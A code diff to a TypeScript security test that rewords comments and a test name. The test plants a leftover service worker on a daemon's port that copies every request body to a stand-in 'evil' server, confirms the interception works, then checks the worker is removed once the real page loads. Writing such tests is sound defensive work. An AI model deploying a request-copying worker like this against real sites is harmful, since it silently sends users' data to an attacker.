@@ -8,16 +8,16 @@ import { ask, shows } from './views.ts'
 
 const REVIEWER = 'Secret Reviewer'
 
-/** An earlier program on one of our ports has left a service worker, which hears all that the page sends. */
+/** Tests a service worker that an earlier program has left at the daemon's port, and that copies the page's requests. */
 export function describeServiceWorker(scene: () => Scene): void {
-  test('a worker that an earlier program left on the port of the daemon, and that sends on what it hears, hears no name and is gone as soon as the page is there', async () => {
+  test('gets no name, and is gone once the page is there', async () => {
     const { browser, world } = scene()
     const evil = await openUnguardedServer()
     await world.daemon.stop()
     const earlier = await openEarlierProgram(world.daemon.port, evil.url)
     await browser.open(world.url)
     await browser.until(IS_CONTROLLED)
-    // The attack works: what a page of this origin sends is heard.
+    // The attack works: the worker copies a request of a page of this origin.
     await expect
       .poll(async () => {
         await browser.evaluate(`fetch('/api', { method: 'POST', body: 'a test' }).then(() => null)`)
@@ -49,7 +49,7 @@ export function describeServiceWorker(scene: () => Scene): void {
 const HAS_NO_WORKER = `navigator.serviceWorker.getRegistrations().then(({ length }) => length === 0)`
 const IS_CONTROLLED = `navigator.serviceWorker.controller !== null`
 
-/** A program whose page registers a worker. The worker lets everything pass and sends a copy of each body elsewhere. */
+/** Opens a program whose page registers a worker that sends a copy of each body to `copiesTo`. */
 function openEarlierProgram(port: number, copiesTo: string): Promise<Listening> {
   const worker = `
     onactivate = (event) => event.waitUntil(clients.claim())
